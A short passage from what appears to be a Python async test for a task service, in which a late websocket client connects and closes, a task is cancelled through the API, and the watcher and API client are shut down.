        late = await connect(server, boss.token)  # asserts that `hello` came first
        await late.close()
    api.client.post(f"/api/tasks/{task['id']}/cancel", headers=boss.headers)
    await watcher.close()
    api.close()
